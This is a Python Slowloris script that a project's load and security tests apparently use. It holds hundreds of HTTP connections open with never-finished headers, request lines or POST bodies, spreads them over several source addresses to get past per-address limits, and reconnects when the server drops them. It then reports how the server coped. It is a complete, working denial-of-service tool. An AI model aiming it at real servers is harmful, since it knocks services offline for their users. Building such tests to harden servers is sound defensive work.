#!/usr/bin/env python3
"""Slowloris for tests/heavy/load.sh, tests/heavy/conn.sh and
tests/e2e/sec_conn.sh: hold many connections open on a server by sending an
HTTP request that never ends.

  slowloris.py HOST PORT --conns N --sources 127.0.0.2,127.0.0.3 --seconds S
               [--interval I] [--mode headers|line|body] [--path P]
               [--reconnect] [--ready FILE]

Modes: headers (the default) sends a request line and a header, then a
header line every I seconds, never the blank line; line sends part of a
request line, then one more byte of it every I seconds; body sends a whole
POST header (Content-Length 100,000) for path P, then one byte of the body
every I seconds. Connections are spread over the source addresses in turn
(each a client of its own to the server's per-address limit); with
--reconnect a connection the server closes is opened again at the next
tick (as an attacker would). --ready FILE is created once every connection
was tried the first time. Stops after S seconds, or when every connection
is closed and none is reopened.

Prints one JSON object: how many connected (the first time), were refused
(connect failed), were still open at the end, were closed by the server on
the way (closed_early: within 1 s of connecting, i.e. refused once
accepted); opened in all (with reconnects), the most open at once, and how
long the connections the server closed had lived (lived_max_s,
lived_min_s, of those that lived 1 s or more).
"""
import argparse
import json
import resource
import select
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--conns", type=int, default=500)
    ap.add_argument("--sources", default="127.0.0.1")
    ap.add_argument("--seconds", type=float, default=40)
    ap.add_argument("--interval", type=float, default=10)
    ap.add_argument("--mode", choices=("headers", "line", "body"), default="headers")
    ap.add_argument("--path", default="/")
    ap.add_argument("--reconnect", action="store_true")
    ap.add_argument("--ready")
    a = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, a.conns + 64))
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))

    sources = a.sources.split(",")
    host = a.host.encode()
    path = a.path.encode()
    if a.mode == "headers":
        first = b"GET %s HTTP/1.1\r\nHost: %s\r\n" % (path, host)
    elif a.mode == "line":
        first = b"GET %s?slow=" % path
    else:
        first = (b"POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                 b"Content-Length: 100000\r\n\r\nx=" % (path, host))

    def drip(n):
        return b"X-Slow-%d: x\r\n" % n if a.mode == "headers" else b"x"

    st = {"connected": 0, "refused": 0, "closed_by_server": 0, "closed_early": 0, "opened": 0,
          "peak_open": 0}
    lived = []
    socks = {}  # fd -> [socket, slot, opened at]
    poller = select.poll()

    def open_slot(slot):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(3)
        try:
            s.bind((sources[slot % len(sources)], 0))
            s.connect((a.host, a.port))
            s.sendall(first)
            s.setblocking(False)
        except OSError:
            s.close()
            return False
        socks[s.fileno()] = [s, slot, time.monotonic()]
        poller.register(s.fileno(), select.POLLIN)
        st["opened"] += 1
        st["peak_open"] = max(st["peak_open"], len(socks))
        return True

    def server_closed(fd):
        s, slot, t0 = socks.pop(fd)
        poller.unregister(fd)
        s.close()
        life = time.monotonic() - t0
        st["closed_by_server"] += 1
        if life < 1:
            st["closed_early"] += 1
        else:
            lived.append(life)
        return slot

    start = time.monotonic()
    for i in range(a.conns):
        if open_slot(i):
            st["connected"] += 1
        else:
            st["refused"] += 1
    if a.ready:
        open(a.ready, "w").close()
    end = start + a.seconds
    tick = min(a.interval, 0.5)
    next_drip = time.monotonic() + a.interval
    next_reopen = time.monotonic() + tick
    n = 0
    reopen = []
    while time.monotonic() < end and (socks or reopen):
        # the server closed (or answered, e.g. 408/503): it is done with us
        wait = min(next_drip, next_reopen if reopen else end, end) - time.monotonic()
        for fd, _ in poller.poll(max(0, int(wait * 1000)) + 1):
            if fd in socks:
                reopen.append(server_closed(fd))
        if time.monotonic() >= next_drip:
            next_drip += a.interval
            for fd in list(socks):
                try:
                    socks[fd][0].send(drip(n))
                except BlockingIOError:
                    pass
                except OSError:
                    reopen.append(server_closed(fd))
            n += 1
        if not a.reconnect:
            reopen = []
        elif time.monotonic() >= next_reopen:  # at most once a tick, not in a loop with the server
            next_reopen = time.monotonic() + tick
            later = []
            for slot in reopen:
                if time.monotonic() < end and not open_slot(slot):
                    later.append(slot)
            reopen = later
    st["open_at_end"] = len(socks)
    st["lived_max_s"] = round(max(lived), 2) if lived else None
    st["lived_min_s"] = round(min(lived), 2) if lived else None
    print(json.dumps(st))
    for s, _, _ in socks.values():
        s.close()


if __name__ == "__main__":
    main()
